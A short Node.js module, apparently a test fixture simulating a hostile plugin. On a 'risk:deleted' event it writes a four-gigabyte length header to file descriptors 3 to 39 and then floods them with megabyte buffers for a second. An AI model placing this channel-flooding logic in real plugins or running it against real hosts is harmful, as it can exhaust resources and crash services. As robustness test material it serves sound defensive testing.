// Announces a message of four gigabytes on its channel, and begins to send it.
const { writeSync } = require('node:fs');
module.exports = {
  eventHandlers: () => ({
    'risk:deleted'() {
      const until = Date.now() + 1_000;
      const part = Buffer.alloc(1024 * 1024, 1);
      for (let fd = 3; fd < 40; fd += 1) {
        try {
          writeSync(fd, Buffer.from([0xff, 0xff, 0xff, 0xff]));
          while (Date.now() < until) {
            try {
              writeSync(fd, part);
            } catch (error) {
              if (error.code !== 'EAGAIN') break;
            }
          }
        } catch {
          // Not a descriptor it may write to.
        }
      }
    },
  }),
};
